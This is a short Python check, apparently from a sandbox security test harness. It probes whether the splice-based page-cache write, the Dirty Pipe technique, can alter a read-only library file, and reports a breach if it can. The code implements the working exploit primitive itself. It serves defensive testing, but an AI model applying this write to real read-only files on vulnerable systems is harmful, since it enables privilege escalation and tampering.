# The splice that once wrote into the page cache of files opened only for reading. Its target is a library file of the box.
def solve(where):
    def write_page_cache():
        before = open(os.__file__, "rb").read(64)
        file = os.open(os.__file__, os.O_RDONLY)
        reader, writer = os.pipe()
        for _ in range(16):
            os.write(writer, b"x" * 4096)
        for _ in range(16):
            os.read(reader, 4096)
        os.splice(file, writer, 1, offset_src=0)
        os.write(writer, before[1:9])
        return None

    try:
        before = open(os.__file__, "rb").read(64)
        write_page_cache()
        if open(os.__file__, "rb").read(64) != before:
            breach("the page cache was changed")
    except (OSError, AttributeError) as refusal:
        note(f"splice: {refusal}")
    return report()
